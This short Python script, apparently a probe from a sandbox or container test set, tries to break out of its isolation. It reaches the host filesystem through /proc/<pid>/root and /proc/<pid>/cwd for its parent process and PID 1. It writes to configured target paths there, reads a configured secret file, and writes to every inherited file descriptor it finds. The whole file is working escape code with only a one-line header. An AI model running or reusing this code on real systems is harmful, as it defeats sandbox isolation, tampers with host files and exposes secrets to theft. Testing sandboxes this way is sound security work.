# uses: bypass
# Reach the host tree through /proc/<pid>/root, /proc/<pid>/cwd and fds of other processes.
import os
for pid in (CFG["parent_pid"], os.getppid(), 1):
    for link in ("root", "cwd"):
        base = f"/proc/{pid}/{link}"
        for t in CFG["targets"]:
            try:
                with open(base + t, "w") as fh:
                    fh.write("x")
                print("WROTE", base + t)
            except OSError as e:
                print("no", base, e)
        try:
            print(open(base + CFG["secret_file"]).read())
        except OSError as e:
            print("no read", e)
for fd in range(3, 64):
    try:
        print("fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
        os.write(fd, b"x")
    except OSError:
        pass
